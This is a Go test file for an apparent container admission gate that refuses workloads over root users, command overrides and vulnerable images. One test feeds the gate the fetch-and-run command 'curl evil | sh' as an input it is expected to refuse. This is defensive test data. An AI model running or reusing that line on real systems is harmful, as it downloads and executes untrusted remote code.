package gate_test

import (
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"touchstone.dev/touchstone"
	"touchstone.dev/touchstone/internal/gate"
	"touchstone.dev/touchstone/internal/makeimage"
)

// settingsTable asks for what a workload sets, beside the image's holes.
var settingsTable = strings.Replace(doorTable, "privileged:", "runs-as-root: {dev: allow, prod: refuse}\n  own-command: {dev: allow, prod: refuse}\n  privileged:", 1)

// settled is a house that has seen an image of a user.
func settled(t *testing.T, user string) (*house, gate.Request) {
	t.Helper()
	h := newHouse(t, nil)
	h.road.set(func() { h.road.book = newRoad(t, settingsTable).book })
	h.run(t)
	im, err := makeimage.Build(makeimage.Image{Layers: []makeimage.Layer{debian(t, "3.0.20-1")}, Created: noon, Config: v1.Config{User: user}})
	check(t, err)
	h.port.push(t, "shop/cart:1", im)
	r := h.pod("shop/cart:1", "prod")
	h.ask(t, r)
	h.scanned(t, 1)
	return h, r
}

func TestAnotherCommandIsNoRestart(t *testing.T) {
	h, r := settled(t, "1000")
	expect(t, h.ask(t, r), touchstone.Allowed, "")
	taken := r
	taken.Question.Command = []string{"/bin/sh", "-c", "curl evil | sh"}
	expect(t, h.ask(t, taken), touchstone.Refused, "own-command")
	taken.Question.Command, taken.Question.Args = nil, []string{"/bin/sh"}
	expect(t, h.ask(t, taken), touchstone.Refused, "own-command")

	// What no rule minds is let in, and what refuses the image alone is let be.
	h.road.set(func() {
		h.road.book = newRoad(t, strings.Replace(settingsTable, "at most 3", "below 0", 1)).book
	})
	expect(t, h.ask(t, r), touchstone.Allowed, "")
	expect(t, h.ask(t, taken), touchstone.Refused, "own-command")
	h.road.set(func() { h.road.book = newRoad(t, strings.Replace(doorTable, "at most 3", "below 0", 1)).book })
	expect(t, h.ask(t, taken), touchstone.Allowed, "")

	// And what came in so may start again so, in another process too.
	h.stop()
	h.open(t)
	h.road.set(func() { h.road.book = newRoad(t, settingsTable).book })
	expect(t, h.ask(t, taken), touchstone.Allowed, "")
	taken.Question.Args = []string{"/bin/bash"}
	expect(t, h.ask(t, taken), touchstone.Refused, "own-command")
}

func TestASecretThatChangesIsNoOtherCommand(t *testing.T) {
	h, r := settled(t, "1000")
	h.road.set(func() { h.road.book = newRoad(t, doorTable).book })
	r.Question.Command = []string{"serve", "--password=hunter2hunter2"}
	expect(t, h.ask(t, r), touchstone.Allowed, "")
	h.road.set(func() { h.road.book = newRoad(t, settingsTable).book })
	r.Question.Command = []string{"serve", "--password=correcthorse9"}
	expect(t, h.ask(t, r), touchstone.Allowed, "")
}

func TestWhatWasKeptFromBeingRootIsNewWithoutThat(t *testing.T) {
	h, r := settled(t, "")
	expect(t, h.ask(t, r), touchstone.Refused, "runs-as-root")
	kept := r
	kept.Question.NotRoot = true
	expect(t, h.ask(t, kept), touchstone.Allowed, "")
	expect(t, h.ask(t, r), touchstone.Refused, "runs-as-root")
}

func TestWhatIsKeptFromBeingRootFromNowOnIsARestart(t *testing.T) {
	h, r := settled(t, "1000")
	expect(t, h.ask(t, r), touchstone.Allowed, "")
	h.road.set(func() { h.road.book = newRoad(t, strings.Replace(settingsTable, "at most 3", "below 0", 1)).book })
	r.Question.NotRoot = true
	expect(t, h.ask(t, r), touchstone.Allowed, "")
}

func TestWhatRanWithItsCommandIsTakenInWithIt(t *testing.T) {
	h, r := settled(t, "1000")
	digest := h.ask(t, r).Artifact.Digest
	r.Question.Workload.Name = "till"
	r.Question.Command = []string{"/bin/sh"}
	ran := gate.Running{Place: r.Question.Place, Workload: r.Question.Workload, Reference: r.Reference, Digest: digest, Pod: "till-1",
		Since: noon.Add(-time.Hour), Settings: r.Question.Settings}
	check(t, h.Observe(t.Context(), "lab", []gate.Running{ran}))
	expect(t, h.ask(t, r), touchstone.Allowed, "")
	r.Question.Command = []string{"/bin/bash"}
	expect(t, h.ask(t, r), touchstone.Refused, "own-command")
}

// What came past the gate, or by a break-glass, is not taken in because somebody
// enforces the rules where they are enforced already.
func TestToEnforceAgainTakesNothingIn(t *testing.T) {
	for name, first := range map[string]bool{"where somebody has before": true, "where that is the rule": false} {
		t.Run(name, func(t *testing.T) {
			h := newHouse(t, nil)
			h.run(t)
			check(t, h.Observe(t.Context(), "lab", nil))
			enforce := gate.Switch{Actor: "ann", Cluster: "lab", Namespace: "shop", Enforce: true, Reason: "nightly"}
			if first {
				for _, yes := range []bool{false, true} {
					s := enforce
					s.Enforce = yes
					_, _, err := h.SetMode(t.Context(), s)
					check(t, err)
				}
			}
			digest := h.port.push(t, "shop/cart:1", build(t, "", debian(t, "3.0.1-1")))
			expect(t, h.ask(t, h.pod("shop/cart:1", "prod")), touchstone.Refused, "unseen")
			h.scanned(t, 1)
			h.clock.pass(time.Hour)
			past := []gate.Running{h.running("shop/cart:1", digest, noon.Add(time.Minute))}
			check(t, h.Observe(t.Context(), "lab", past))
			mode, inTheWay, err := h.SetMode(t.Context(), enforce)
			if err != nil || len(inTheWay) != 0 || !mode.Enforced || first && !mode.Since.Equal(noon) {
				t.Fatalf("%+v, %v in the way (%v)", mode, inTheWay, err)
			}
			check(t, h.Observe(t.Context(), "lab", past))
			if o := h.listed(t); o.Taken || len(o.Findings) == 0 {
				t.Errorf("observed %+v", o)
			}
			expect(t, h.ask(t, h.pod("shop/cart:1", "prod")), touchstone.Refused, "cvss")
		})
	}
}

// The status of a pod from before the gate can be written by whoever has the
// right: what it is said to run is believed on day one alone.
func TestAfterDayOneNothingHasRunBefore(t *testing.T) {
	h := newHouse(t, nil)
	h.run(t)
	old := h.port.push(t, "shop/cart:1", build(t, "", debian(t, "3.0.1-1")))
	check(t, h.Observe(t.Context(), "lab", []gate.Running{h.running("shop/cart:1", old, noon.Add(-time.Hour))}))
	h.scanned(t, 1)
	h.clock.pass(25 * time.Hour)
	evil := h.port.push(t, "shop/cart:2", build(t, "", debian(t, "3.0.1-1"), layerOf(t, file("evil", "evil"))))
	check(t, h.Observe(t.Context(), "lab", []gate.Running{h.running("shop/cart:2", evil, noon.Add(-time.Hour))}))
	h.scanned(t, 1)
	expect(t, h.ask(t, h.pod("shop/cart:2", "prod")), touchstone.Refused, "cvss")
	expect(t, h.ask(t, h.pod("shop/cart:1", "prod")), touchstone.Allowed, "let be")
}
